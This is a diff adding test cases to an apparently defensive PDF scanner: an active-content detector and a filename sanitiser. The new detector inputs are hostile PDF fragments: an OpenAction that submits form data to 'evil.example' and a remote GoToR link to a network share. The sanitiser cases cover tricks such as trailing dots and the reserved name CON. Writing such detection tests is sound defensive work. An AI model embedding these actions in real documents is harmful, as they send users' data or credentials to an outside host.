@@ -72,6 +72,8 @@ describe('active content', () => {
     '<</Type /EmbeddedFile>>',
     '<</Names <</EmbeddedFiles 4 0 R>>>>',
     '<</S /J#61vaScript>>',
+    '<</OpenAction <</S /SubmitForm /F (https://evil.example)>>>>',
+    '<</S /GoToR /F (//evil/share/x.pdf)>>',
   ])('is seen in %s', async (text) => {
     expect(await isActive(`%PDF-1.7 ${text}`)).toBe(true);
   });
@@ -80,6 +82,9 @@ describe('active content', () => {
   });
   it('is not seen where there is none', async () => {
     expect(await isActive('%PDF-1.7 <</Type /Page /Contents 4 0 R>> (JavaScript) /Launched')).toBe(false);
+    expect(await isActive('%PDF-1.7 <</S /URI /URI (https://a.example)>> <</S /GoTo /D [3 0 R]>>')).toBe(
+      false,
+    );
   });
 });
 
@@ -98,6 +103,10 @@ describe('the name a file is kept under', () => {
     ['invoice\u202Efdp.pdf', 'invoicefdp.pdf'],
     ['\u200b.pdf', 'pdf.pdf'],
     ['', 'file.pdf'],
+    ['x.pdf.', 'x.pdf'],
+    ['x.pdf . .', 'x.pdf'],
+    ['CON.pdf', '_CON.pdf'],
+    ['contract.pdf', 'contract.pdf'],
   ])('%j becomes %s', async (name, kept) => {
     expect(safeName(name, await sniffType(pdf))).toBe(kept);
   });
